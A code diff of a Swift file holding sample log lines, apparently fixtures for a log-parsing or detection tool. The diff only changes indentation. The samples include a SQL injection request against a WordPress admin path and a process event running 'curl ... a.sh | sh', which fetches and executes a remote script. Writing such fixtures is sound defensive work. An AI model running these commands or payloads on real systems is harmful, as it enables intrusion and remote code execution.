@@ -6,23 +6,23 @@ enum Laboratory {
 
   static let lines: [Kind: ByteString] = [
     .web: """
-      203.0.113.77 - - [10/Oct/2025:13:55:36 +0000] "GET /wp-admin/index.php?id=1+union+select+user,password+from+users \
-      HTTP/1.1" 404 2326 "https://shop.example.com/start?page=checkout&step=2" "Mozilla/5.0 (X11; Linux x86_64) \
-      AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
-      """,
+    203.0.113.77 - - [10/Oct/2025:13:55:36 +0000] "GET /wp-admin/index.php?id=1+union+select+user,password+from+users \
+    HTTP/1.1" 404 2326 "https://shop.example.com/start?page=checkout&step=2" "Mozilla/5.0 (X11; Linux x86_64) \
+    AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
+    """,
     .sshd: """
-      Oct 10 13:55:36 web01 sshd[24217]: Failed password for invalid user deploy from 198.51.100.23 port 48122 ssh2
-      """,
+    Oct 10 13:55:36 web01 sshd[24217]: Failed password for invalid user deploy from 198.51.100.23 port 48122 ssh2
+    """,
     .json: """
-      {"time":"2025-10-10T13:55:36Z","name":"process_exec","args":["curl http://203.0.113.9/a.sh | sh"],\
-      "action":"executed","category":["process"],"pid":28113,"ppid":1,"cwd":"/tmp","user":{"id":"1001","name":"deploy"},\
-      "host":{"name":"web01","os":"debian"},"container":{"id":"c0ffee","image":"registry.example.com/shop/web:1.4"},\
-      "severity":"high"}
-      """,
+    {"time":"2025-10-10T13:55:36Z","name":"process_exec","args":["curl http://203.0.113.9/a.sh | sh"],\
+    "action":"executed","category":["process"],"pid":28113,"ppid":1,"cwd":"/tmp","user":{"id":"1001","name":"deploy"},\
+    "host":{"name":"web01","os":"debian"},"container":{"id":"c0ffee","image":"registry.example.com/shop/web:1.4"},\
+    "severity":"high"}
+    """,
     .sudo: """
-      Oct 10 13:55:36 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart \
-      nginx.service
-      """,
+    Oct 10 13:55:36 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart \
+    nginx.service
+    """,
   ]
 
   static let patterns: [(Kind, ByteString)] = [
